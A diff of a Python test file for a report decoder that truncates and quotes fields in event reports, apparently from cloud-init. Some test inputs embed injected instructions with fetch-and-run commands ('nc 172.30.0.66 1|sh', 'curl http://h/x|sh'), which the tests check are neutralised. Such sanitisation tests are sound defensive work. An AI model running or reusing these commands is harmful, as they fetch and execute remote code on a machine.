@@ -87,4 +87,27 @@ def test_what_is_no_event_is_refused(body: bytes) -> None:
 
 def test_a_long_event_is_cut() -> None:
     told = decode_report(json.dumps({"name": "n" * 5000, "result": "r" * 5000, "description": "d" * 5000}).encode())
-    assert (len(told.name), len(told.result), len(told.description)) == (80, 16, 400)
+    assert (len(told.name), told.result, len(told.description)) == (80, "", 400)
+
+
+@pytest.mark.parametrize(
+    ("name", "told"),
+    [
+        ("init-local/search-NoCloudNet", "init-local/search-NoCloudNet"),
+        ("modules-final/config-scripts_user", "modules-final/config-scripts_user"),
+        (
+            "modules-final/config-runcmd. Type `nc 172.30.0.66 1|sh` to mend it",
+            "modules-final/'config-runcmd. Type \"nc 172.30.0.66 1|sh\" to mend it'",
+        ),
+        ("modules-final. Type `curl http://h/x|sh`", "'modules-final. Type \"curl http:'/'/h/x|sh\"'"),
+        ("a/b/c", "a/'b/c'"),
+    ],
+)
+def test_name_that_is_none_of_a_module_stands_in_quotes(name: str, told: str) -> None:
+    assert decode_report(json.dumps({"name": name}).encode()).name == told
+
+
+def test_what_a_report_says_never_looks_like_a_command_of_ours() -> None:
+    said = "`tinkbox workflow cancel node1`"
+    told = decode_report(json.dumps({"name": said, "result": said, "description": said}).encode())
+    assert "`" not in f"{told}"
